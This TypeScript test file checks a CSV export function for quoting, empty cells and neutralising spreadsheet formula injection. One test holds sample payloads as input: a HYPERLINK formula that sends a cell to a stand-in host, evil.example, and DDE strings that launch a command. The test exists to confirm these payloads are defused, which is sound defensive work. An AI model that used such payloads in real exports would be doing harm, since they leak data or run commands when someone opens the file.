import { outputCsvText } from '../../../src/core/batch/outputCsvText';

describe('outputCsvText', () => {
  const columns = ['title', 'score', 'reviewed', 'note'];

  it('writes the header then one row per output, quoting what needs it', () => {
    const text = outputCsvText(
      columns,
      [
        { title: 'A "quoted", comma', score: 3, reviewed: true, note: null },
        { title: 'Line\nbreak', score: 1.5, reviewed: false, note: 'ok' },
      ],
      true,
    );
    expect(text).toBe(
      'title,score,reviewed,note\n"A ""quoted"", comma",3,true,\n"Line\nbreak",1.5,false,ok\n',
    );
  });

  it('writes rows alone for later blocks, empty cells for missing values and nothing for no rows', () => {
    expect(outputCsvText(columns, [{ score: 2 }, 'not an object'], false)).toBe(',2,,\n,,,\n');
    expect(outputCsvText(columns, [], false)).toBe('');
    expect(outputCsvText(columns, [], true)).toBe('title,score,reviewed,note\n');
  });

  /**
   * outputs.csv is made to be opened in a spreadsheet, and its cells are model text about untrusted media (a
   * receipt photo can print any "merchant"). A text cell starting with =, +, -, @ (or tab / CR) is run as a
   * formula by Excel, LibreOffice and Sheets (CSV injection, OWASP): such text cells must be neutralised
   * (csv-stringify's escape_formulas prefixes a quote), numbers must stay numbers.
   */
  it('does not write model text that a spreadsheet runs as a formula', () => {
    const csv = outputCsvText(
      ['merchant', 'note', 'handle', 'total'],
      [
        {
          merchant: '=HYPERLINK("https://evil.example/?"&A1,"Café")',
          note: "+cmd|' /C calc'!A0",
          handle: "@SUM(1+1)*cmd|' /C calc'!A0",
          total: -12.5,
        },
      ],
      false,
    );
    const cells = csv.trimEnd().split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    for (const cell of cells.slice(0, 3)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells[3]).toBe('-12.5');
  });

  it('prefixes a quote to text starting with -, tab or CR and keeps other cells verbatim', () => {
    expect(
      outputCsvText(['a', 'b', 'c', 'd', 'e'], [{ a: '-2+3', b: '\tx', c: '\rx', d: 'a=b', e: -3 }], false),
    ).toBe("'-2+3,'\tx,\"'\rx\",a=b,-3\n");
  });
});
